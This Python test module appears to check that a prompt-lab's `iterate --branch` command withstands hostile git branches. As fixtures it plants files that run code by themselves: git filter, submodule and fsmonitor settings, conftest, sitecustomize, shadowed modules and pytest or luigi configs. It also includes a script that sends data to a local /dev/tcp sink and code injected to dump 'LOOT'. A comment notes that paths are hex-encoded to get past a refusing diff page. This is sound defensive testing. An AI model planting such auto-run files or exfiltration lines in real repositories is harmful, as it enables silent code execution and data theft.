"""Hostile branches through the whole `iterate --branch`: search, both sides, verdict, pull request.

The branch changes a prompt, as any branch does, and brings an attack in the step's module or in
files that git, Python or pytest would run by themselves.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from prompt_lab.errors import LabError
from prompt_lab.scores import Score, Scores
from self_improve.code import git
from self_improve.demo import STEP
from tools.hostile.attacks import ATTACKS, PRELUDE
from tools.hostile.branch_runs import Attack, Harm, reached, variables_of
from tools.hostile.site import FAST, HostileSite, copied, reworded_texts
from tools.hostile.targets import Targets, planted

BRANCH = "their/change"
_KINDS = ("reads", "writes", "sends", "signals", "daemons")
_MODULE = f"worker_plan/steps/{STEP}.py"
_IN_CELL = """

def _attacked(work):
    def attacked(self, ask):
        {call}
        print("LOOT", LOOT)
        (__import__("pathlib").Path(self.run_dir) / "998-loot.json").write_text(json.dumps(LOOT))
        yield from work(self, ask)
    return attacked

IdentifyPotentialLevers.work = _attacked(IdentifyPotentialLevers.work)
"""
_RUN = "import os; os.system({program!r})\n"
FILES: dict[str, dict[str, str]] = {
    "attributes": {".gitattributes": "* filter=evil diff=evil merge=evil ident\n"},
    "submodule": {".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::{program}\n'},
    "conftest": {"conftest.py": _RUN, "worker_plan/conftest.py": _RUN},
    "customize": {"sitecustomize.py": _RUN, "usercustomize.py": _RUN},
    "shadows": {"json.py": _RUN, "luigi/__init__.py": _RUN, "self_improve/__init__.py": _RUN},
    "configurations": {
        "pytest.ini": "[pytest]\naddopts = -p evil\n", "evil.py": _RUN,
        "luigi.cfg": "[core]\nlogging_conf_file={program}\n",
    },
    "a folder of git": {"dot-git/config": "[core]\n\tfsmonitor = {program}\n"},
}  # fmt: skip
"""Files of a branch that would run the program by themselves."""


def attacks() -> list[Attack]:
    """Return every attack that is tried through the whole command."""
    listed = [
        Attack(kind=kind, name=name, place=place)
        for kind in _KINDS
        for name in ATTACKS[kind]
        for place in ("import", "cell")
    ]
    return [*listed, *(Attack(kind="trees", name=name, place="tree") for name in FILES)]


def harms_of(attack: Attack, folder: Path, template: HostileSite) -> list[Harm]:
    """Carry out an attack through `iterate --branch`, and return the harms that it did."""
    folder.mkdir()
    with planted(folder) as targets:
        site = copied(template, folder / "site")
        _commit(attack, site, targets)
        before = targets.states(), _repository(site)
        environment = variables_of(targets, site.layout.root)
        words = site.iterate("--branch", BRANCH, *FAST, "--skip-analysis", "--timeout", "30")
        done = site.run(words, environment)
        harms: list[Harm] = []
        if done.code not in {0, 1, 2} or "Traceback" in done.err:
            harms.append(("broke", f"exit {done.code}: {done.err.strip()[-400:]}"))
        if len(list(site.layout.history.glob("*/*/outputs.jsonl"))) != 2:
            harms.append(("broke", f"the code was not run: {done.err.strip()[-400:]}"))
        for one, other in zip(before, (targets.states(), _repository(site)), strict=True):
            changed = sorted(k for k in {*one, *other} if one.get(k) != other.get(k))
            if changed:
                harms.append(("written", ", ".join(changed[:3])))
        harms += _forged(site, targets)
        return [*harms, *reached(targets, done.out + done.err + _recorded(site))]


def _commit(attack: Attack, site: HostileSite, targets: Targets) -> None:
    """Commit a branch with another prompt and the attack."""
    site.branch(BRANCH, reworded_texts(1)[0])
    git.run(site.code, "checkout", "--quiet", BRANCH)
    if attack.kind == "trees":
        sink = targets.sinks["tcp4"].getsockname()[1]
        program = targets.folder / "run.sh"
        program.write_text(
            f"#!/bin/bash\ntouch {targets.home}/ran\necho x > /dev/tcp/127.0.0.1/{sink}\ncat\n"
        )
        program.chmod(0o755)
        for name, text in FILES[attack.name].items():
            path = site.code / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text.replace("{program!r}", repr(str(program)))
                            .replace("{program}", str(program)))  # fmt: skip
    else:
        facts = targets.for_code(lab=site.layout.root, code=site.code)
        # As hexadecimal: a page that shows the diff would be refused for its paths.
        facts_hex = json.dumps(facts).encode().hex()
        body = textwrap.indent(ATTACKS[attack.kind][attack.name].strip(), " " * 8)
        prelude = PRELUDE.replace(
            PRELUDE[PRELUDE.index("for _ in range(100)") : PRELUDE.index("LOOT = ")],
            f'T = json.loads(bytes.fromhex("{facts_hex}"))\nT["command"] = os.getppid()\n',
        ).replace("{attack}", body)
        at_import, in_cell = ("attack()", "pass") if attack.place == "import" else ("", "attack()")
        path = site.code / _MODULE
        addition = f"\n{prelude}\n{at_import}\n" + _IN_CELL.replace("{call}", in_cell)
        path.write_text(path.read_text() + addition)
    git.run(site.code, "add", "--all", "--force")
    git.run(
        site.code, "-c", "user.name=n", "-c", "user.email=n@localhost", "commit", "--quiet",
        "--message", "More",
    )  # fmt: skip
    git.run(site.code, "checkout", "--quiet", "main")
    shutil.rmtree(site.code / "worker_plan" / "__pycache__", ignore_errors=True)


def _repository(site: HostileSite) -> dict[str, Any]:
    """Return what a branch may not change: the checkout, and git's settings, hooks and main."""
    state: dict[str, Any] = {"main": git.run(site.code, "rev-parse", "main")}
    for path in sorted(p for p in site.code.rglob("*") if p.is_file()):
        inner = path.relative_to(site.code)
        is_setting = inner.parts[:2] in {(".git", "config"), (".git", "hooks"), (".git", "info")}
        if inner.parts[0] != ".git" or is_setting:
            state[str(inner)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return state


def _forged(site: HostileSite, targets: Targets) -> Iterator[Harm]:
    """Yield what the branch wrote into the data repo, or into git's settings there."""
    board: list[Score] = []
    try:
        board = Scores(site.layout).rows(STEP)
    except LabError as error:
        yield "forged", f"the scoreboard cannot be read: {error}"
    if len({row.candidate for row in board}) != len(board) or len(board) > 2:
        yield "forged", f"the scoreboard has {[row.candidate for row in board]}"
    allowed = (site.layout.worktrees, site.layout.history, site.layout.scratch)
    for path in site.layout.root.rglob("*"):
        is_allowed = any(path.is_relative_to(folder) for folder in allowed)
        if path.is_file() and not is_allowed and targets.mark.encode() in path.read_bytes():
            yield "written", str(path.relative_to(site.home))


def _recorded(site: HostileSite) -> str:
    """Return every file of the data repo and every object of git there, as text."""
    texts = [
        path.read_bytes().decode("utf-8", "replace")
        for path in site.layout.root.rglob("*")
        if path.is_file() and not path.is_symlink()
    ]
    for repository in (site.layout.root, site.code):
        done = subprocess.run(
            ["git", "-C", str(repository), "cat-file", "--batch-all-objects", "--batch"],
            capture_output=True, check=False,
        )  # fmt: skip
        texts.append(done.stdout.decode("utf-8", "replace"))
    return "\n".join(texts)
